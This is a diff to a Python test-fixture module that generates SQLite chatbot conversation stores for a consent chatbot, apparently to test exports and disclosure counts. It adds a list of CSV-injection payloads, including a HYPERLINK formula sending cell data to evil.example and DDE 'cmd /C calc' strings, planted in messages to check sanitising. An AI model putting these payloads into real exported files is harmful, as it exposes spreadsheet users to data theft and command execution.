@@ -122,3 +122,111 @@ def build(path: Path) -> Path:
     db.commit()
     db.close()
     return path
+
+
+# Residents' texts that a spreadsheet would run as formulas (CSV injection).
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"詳しくはこちら")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝１＋１",
+    "＋１＋１",
+    "－１＋１",
+    "＠ＳＵＭ（１）",
+    "　=1+1",
+]
+
+
+def build_hostile(path: Path, day: dt.date = DAY1) -> Path:
+    """A store whose misunderstood messages (and one intent name) start like formulas."""
+    db = sqlite3.connect(path)
+    db.execute(SCHEMA)
+    w = _Writer(db)
+    at = dt.datetime.combine(day, dt.time(10), JST)
+    for i, text in enumerate(FORMULAS):
+        # six senders each, so that every group is large and shown
+        for j in range(6):
+            sender = f"hostile-{i}-{j}"
+            w.session(sender, at)
+            w.user(sender, at, text, "nlu_fallback", "line")
+    for j in range(6):
+        w.session(f"named-{j}", at)
+        w.user(f"named-{j}", at, "こんにちは", "=cmd|' /C calc'!A0", "line")
+    db.commit()
+    db.close()
+    return path
+
+
+# ---- generated data with its ground truth (for the disclosure test) -----------------------
+
+RANDOM_FIRST_DAY = dt.date(2026, 11, 2)  # a Monday: three whole weeks to 22 November
+RANDOM_CHANNELS = {"line": "LINE", "webchat": "web", "rest": "REST"}
+RANDOM_INTENTS = [
+    ("ask_info_bank", 30), ("greet", 25), ("ask_data_levels", 12), ("nlu_fallback", 10),
+    ("ask_benefits", 6), ("thank", 6), ("give_consent", 5), ("goodbye", 3), ("ask_security", 2),
+]  # fmt: skip
+
+
+def build_random(path: Path, seed: int = 12, days: int = 21) -> tuple[Path, list[dict]]:
+    """A store of random conversations over `days` days from RANDOM_FIRST_DAY, with many small
+    and some large counts, and the truth: per conversation its day, channel, messages (day,
+    intent) and funnel outcome per level (explained, asked, answer, recorded, withdrawn)."""
+    import random
+
+    rng = random.Random(seed)  # noqa: S311 (test data, not a secret)
+    db = sqlite3.connect(path)
+    db.execute(SCHEMA)
+    w = _Writer(db)
+    truth: list[dict] = []
+    names, weights = zip(*RANDOM_INTENTS, strict=True)
+    for d in range(days):
+        day = RANDOM_FIRST_DAY + dt.timedelta(days=d)
+        for raw, channel in RANDOM_CHANNELS.items():
+            spread = {
+                "line": [0, 1, 2, 3, 5, 7, 9],
+                "webchat": [0, 0, 1, 2, 3, 6],
+                "rest": [0, 0, 1],
+            }
+            for n in range(rng.choice(spread[raw])):
+                sender = f"{raw}-{d}-{n}"
+                at = dt.datetime.combine(day, dt.time(9 + n % 10, n), JST)
+                w.session(sender, at)
+                messages = []
+                for _ in range(rng.choice([1, 1, 2, 3])):
+                    intent = rng.choices(names, weights)[0]
+                    w.user(sender, at, "テスト", intent, raw)
+                    messages.append((day, intent))
+                outcomes: dict[int, tuple] = {}
+                if rng.random() < 0.35:  # a level-2 consent conversation
+                    w.user(sender, at, "同意したい", "give_consent", raw)
+                    messages.append((day, "give_consent"))
+                    w.bot(sender, at, "utter_consent_offer_explanation_level2")
+                    asked = rng.random() < 0.8
+                    answer = None
+                    recorded = False
+                    if asked:
+                        w.bot(sender, at, "utter_ask_family_doctor")
+                        answer = rng.choice(["consulted", "consulted", "not_yet", "will_not", None])
+                        if answer:
+                            w.slot(sender, at, "family_doctor_consulted", answer)
+                        if answer == "consulted" and rng.random() < 0.9:
+                            w.bot(sender, at, "utter_consent_recorded")
+                            recorded = True
+                    outcomes[2] = (True, asked, answer, recorded, False)
+                elif rng.random() < 0.2:  # level 1
+                    w.bot(sender, at, "utter_consent_offer_explanation")
+                    recorded = rng.random() < 0.5
+                    if recorded:
+                        w.bot(sender, at, "utter_consent_recorded")
+                    withdrawn = rng.random() < 0.2
+                    if withdrawn:
+                        w.bot(sender, at, "utter_withdraw_done")
+                    outcomes[1] = (True, False, None, recorded, withdrawn)
+                truth.append({"day": day, "channel": channel, "messages": messages,
+                              "outcomes": outcomes})  # fmt: skip
+    db.commit()
+    db.close()
+    return path, truth
